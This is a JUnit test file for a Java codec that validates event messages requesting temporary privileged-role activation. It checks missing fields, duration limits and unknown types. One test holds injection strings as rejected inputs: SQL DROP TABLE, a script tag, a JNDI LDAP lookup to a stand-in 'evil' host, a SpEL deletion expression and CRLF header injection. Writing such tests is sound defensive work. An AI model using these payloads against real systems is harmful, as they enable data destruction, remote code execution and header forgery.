package dev.pimflow.contracts;

import com.fasterxml.jackson.databind.node.ObjectNode;
import org.apache.kafka.common.header.internals.RecordHeaders;
import org.junit.jupiter.api.Test;

import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class EventCodecTest {
    final EventCodec codec = new EventCodec();

    ObjectNode request() {
        ObjectNode d = codec.mapper().createObjectNode();
        d.put("ticketSystem", "Contoso ICM");
        d.put("ticketNumber", "CONTOSO:Security-012345");
        d.put("principalId", "d9771b4c-06c5-491a-92cb-3aa4e225a725");
        d.put("roleDefinitionId", "fe930be7-5e62-47db-91af-98c3a49a38b1");
        d.put("justification", "Need to invalidate all app refresh tokens for Contoso users.");
        d.put("duration", "PT5H");
        return d;
    }

    InboundEvent read(ObjectNode data) {
        return read(data, EventTypes.TICKET_ACTIVATION_REQUESTED);
    }

    InboundEvent read(ObjectNode data, String type) {
        byte[] bytes = codec.writeInbound("e-1", type, URI.create("urn:test"), data);
        return codec.read(bytes, new RecordHeaders(), EventTypes.TICKET_EVENTS);
    }

    @Test
    void readsTheSeedRequestAndDefaultsTheScope() {
        ActivationRequested r = codec.data(read(request()), ActivationRequested.class);
        assertThat(r.duration()).isEqualTo(Duration.ofHours(5));
        assertThat(r.directoryScopeId()).isEqualTo("/");
    }

    @Test
    void namesTheMissingField() {
        ObjectNode d = request();
        d.remove("principalId");
        assertThatThrownBy(() -> read(d)).isInstanceOf(InvalidEventException.class).hasMessage("data.principalId: missing");
    }

    @Test
    void rejectsAWrongDurationFormat() {
        ObjectNode d = request().put("duration", "5 hours");
        assertThatThrownBy(() -> read(d)).hasMessage("data.duration: has an invalid format");
    }

    @Test
    void rejectsANegativeOrZeroDuration() {
        assertThatThrownBy(() -> read(request().put("duration", "PT0S"))).hasMessage("data.duration: must be positive");
        assertThatThrownBy(() -> read(request().put("duration", "-PT5H"))).hasMessageStartingWith("data.duration");
    }

    @Test
    void rejectsAnAbsurdDuration() {
        assertThatThrownBy(() -> read(request().put("duration", "P9999D"))).hasMessage("data.duration: longer than one year");
    }

    @Test
    void rejectsControlCharactersInText() {
        assertThatThrownBy(() -> read(request().put("ticketNumber", "A\u0000B"))).hasMessage("data.ticketNumber: has an invalid format");
    }

    @Test
    void rejectsInjectionStringsInTextFields() {
        assertThatThrownBy(() -> read(request().put("ticketSystem", "Contoso'; DROP TABLE activation; --"))).hasMessage("data.ticketSystem: has an invalid format");
        assertThatThrownBy(() -> read(request().put("ticketNumber", "<script>alert(1)</script>"))).hasMessage("data.ticketNumber: has an invalid format");
        assertThatThrownBy(() -> read(request().put("justification", "fine ${jndi:ldap://evil/x}"))).hasMessage("data.justification: has an invalid format");
        assertThatThrownBy(() -> read(request().put("justification", "#{runtimeService.deleteProcessInstance('x')}"))).hasMessage("data.justification: has an invalid format");
        assertThatThrownBy(() -> read(request().put("justification", "line\r\nX-Injected: 1"))).hasMessage("data.justification: has an invalid format");
        // ordinary prose with quotes and semicolons stays acceptable
        assertThat(read(request().put("justification", "Aline's task; see \"runbook\" step 3 (5 users).\nThanks")).id()).isEqualTo("e-1");
    }

    @Test
    void rejectsUnknownFieldsAndWrongTypes() {
        assertThatThrownBy(() -> read(request().put("extra", 1))).hasMessage("data.extra: not a known field");
        ObjectNode wrongType = request();
        wrongType.put("duration", 5);
        assertThatThrownBy(() -> read(wrongType)).hasMessageStartingWith("data.duration: has the wrong type");
    }

    @Test
    void rejectsUnknownTypesAndBrokenEnvelopes() {
        assertThatThrownBy(() -> read(request(), "ticket.reopened")).hasMessageStartingWith("type: unknown event type 'ticket.reopened'");
        assertThatThrownBy(() -> codec.read("nope".getBytes(StandardCharsets.UTF_8), new RecordHeaders(), EventTypes.TICKET_EVENTS))
                .hasMessageStartingWith("payload: not JSON");
        assertThatThrownBy(() -> codec.read("{\"specversion\":\"1.0\",\"source\":\"x\",\"type\":\"ticket.closed\"}".getBytes(StandardCharsets.UTF_8),
                new RecordHeaders(), EventTypes.TICKET_EVENTS)).hasMessage("id: missing");
    }

    @Test
    void acceptsBinaryMode() {
        RecordHeaders headers = new RecordHeaders();
        headers.add("ce_specversion", "1.0".getBytes(StandardCharsets.UTF_8));
        headers.add("ce_id", "b-1".getBytes(StandardCharsets.UTF_8));
        headers.add("ce_source", "urn:test".getBytes(StandardCharsets.UTF_8));
        headers.add("ce_type", EventTypes.TICKET_ACTIVATION_REQUESTED.getBytes(StandardCharsets.UTF_8));
        headers.add("content-type", "application/json".getBytes(StandardCharsets.UTF_8));
        InboundEvent e = codec.read(request().toString().getBytes(StandardCharsets.UTF_8), headers, EventTypes.TICKET_EVENTS);
        assertThat(e.id()).isEqualTo("b-1");
    }
}
